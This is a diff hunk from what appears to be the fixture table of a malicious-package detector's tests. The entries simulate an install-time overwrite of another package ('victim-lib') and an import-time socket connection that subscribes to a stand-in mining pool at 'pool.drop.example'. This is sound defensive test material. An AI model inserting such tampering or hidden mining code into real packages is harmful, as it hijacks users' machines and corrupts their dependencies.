@@ -77,7 +77,7 @@ fs.mkdirSync(folder, { recursive: true })
   { id: 'other-package', at: 'install', finds: ['did-change-packages'], target: /victim-lib/, code: `const folder = path.resolve(__dirname, '../victim-lib')
 fs.mkdirSync(folder, { recursive: true })
 «fs.writeFileSync(path.join(folder, 'index.js'), 'module.exports = 1\\n')»` },
-  { id: 'mine', at: 'import', finds: ['did-mine'], target: /pool\.drop/, code: `const socket = net.connect(3333, 'pool.drop.example', () => {
+  { id: 'mine', at: 'import', finds: ['did-mine'], target: /pool\.drop/, code: `const socket = «net.connect»(3333, 'pool.drop.example', () => {
   «socket.write('{"id":1,"method":"mining.subscribe","params":["cpu/1.0"]}\\n')»
   setTimeout(() => socket.destroy(), 800)
 })
